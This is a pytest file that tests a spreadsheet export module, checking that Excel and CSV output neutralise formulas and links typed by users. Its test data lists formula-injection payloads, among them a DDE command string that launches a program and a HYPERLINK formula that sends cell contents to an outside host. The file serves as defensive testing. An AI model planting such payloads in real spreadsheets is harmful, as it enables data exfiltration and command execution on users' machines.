"""Tables to take away: whatever people have typed stays text in a spreadsheet, and Excel opens what was made."""

import csv
import io
import zipfile
from datetime import date

import openpyxl
import pytest

from handlers.sheets import Sheet, make_csv, make_xlsx

HOSTILE = (
    '=HYPERLINK("http://example.org?x="&A1,"Ведомость")',
    "=cmd|' /C calc'!A0",
    "+7 900 000-00-00",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "＝1+1",
    "{=1+1}",
    "http://example.org",
    "0012",
    "1e5",
    'Иванова; "А. Б."\nвторая строка;=1+1',
    "\x00\x08=1+1",
    "=" * 40_000,
)


def table(*cells: str) -> Sheet:
    rows = tuple((cell, number, date(2026, 10, 12)) for number, cell in enumerate(cells))
    return Sheet("Наставники", (("Охват", "=1+1"), ("Строк", str(len(rows)))), ("=ФИО", "Мест", "Дата"), rows)


def test_it_writes_no_formula_and_no_link_into_an_excel_file() -> None:
    made = make_xlsx(table(*HOSTILE))
    page = openpyxl.load_workbook(io.BytesIO(made)).active
    assert page.title == "Наставники"
    cells = [cell for row in page.iter_rows() for cell in row if cell.value is not None]
    assert {cell.data_type for cell in cells} == {"s", "n", "d"}
    assert [cell for cell in cells if cell.hyperlink] == []
    assert page["A4"].value == "=ФИО" and page["A4"].data_type == "s"
    assert page["A5"].value == HOSTILE[0] and page["C5"].value.date() == date(2026, 10, 12)
    parts = zipfile.ZipFile(io.BytesIO(made))
    assert b"<f>" not in parts.read("xl/worksheets/sheet1.xml")


def test_it_writes_a_csv_that_a_russian_excel_opens_and_takes_nothing_for_a_formula() -> None:
    made = make_csv(table(*HOSTILE))
    assert made.startswith(b"\xef\xbb\xbf") and b"\r\n" in made
    rows = list(csv.reader(io.StringIO(made.decode("utf-8-sig"), newline=""), delimiter=";"))
    assert rows[:4] == [["Охват", "'=1+1"], ["Строк", str(len(HOSTILE))], [], ["'=ФИО", "Мест", "Дата"]]
    cells = [row[0] for row in rows[4:]]
    assert len(cells) == len(HOSTILE), "no cell has broken out of its row"
    risky = [cell for cell in cells if cell.lstrip(" \t\r\n\x00\x08").startswith(("=", "+", "-", "@", "＝"))]
    assert risky == []
    assert cells[0] == f"'{HOSTILE[0]}" and cells[12] == "0012"
    assert rows[4][1:] == ["0", "12.10.2026"]


@pytest.mark.parametrize("make", [make_xlsx, make_csv])
def test_it_makes_a_table_without_rows(make) -> None:
    assert len(make(Sheet("Пары", (), ("Школа",), ()))) > 0
